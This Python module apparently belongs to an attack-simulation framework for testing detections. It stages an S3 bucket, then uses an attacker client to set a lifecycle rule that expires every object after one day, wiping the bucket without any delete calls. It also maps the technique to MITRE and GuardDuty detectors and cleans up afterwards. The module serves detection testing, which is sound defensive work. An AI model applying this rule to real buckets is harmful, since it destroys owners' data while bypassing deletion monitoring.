"""Let a lifecycle rule delete what a bucket holds: AWS does the work, and no DeleteObject is ever called."""

from bastide.attack.stage import Stage
from bastide.attack.technique import Recorded, Scene, Technique

TECHNIQUE = Technique(
    title="A lifecycle rule empties a bucket",
    mitre=("T1485.001",),
    tactic="impact",
    detectors=("GuardDuty Impact:IAMUser/AnomalousBehavior",),
    expected=Recorded(
        "lifecycles of workload buckets are their team's; log-archive-bucket-protect holds the log buckets"
    ),
    source="Amazon S3 API Reference, PutBucketLifecycleConfiguration",
)
RULE = {"ID": "tidy", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}}


def prepare(stage: Stage) -> Scene:
    """A bucket with something in it."""
    return {"bucket": stage.bucket("archive")}


def attack(stage: Stage, scene: Scene) -> None:
    """Everything expires tomorrow."""
    stage.attacker().client("s3").put_bucket_lifecycle_configuration(
        Bucket=scene["bucket"], LifecycleConfiguration={"Rules": [RULE]}
    )


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The bucket has the rule."""
    s3 = stage.owner().client("s3")
    try:
        found = s3.get_bucket_lifecycle_configuration(Bucket=scene["bucket"])["Rules"]
    except s3.exceptions.ClientError as error:
        if error.response["Error"]["Code"] != "NoSuchLifecycleConfiguration":
            raise
        return False
    return any(one.get("Expiration", {}).get("Days") == 1 for one in found)


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the bucket."""
    stage.drop_bucket(scene["bucket"])
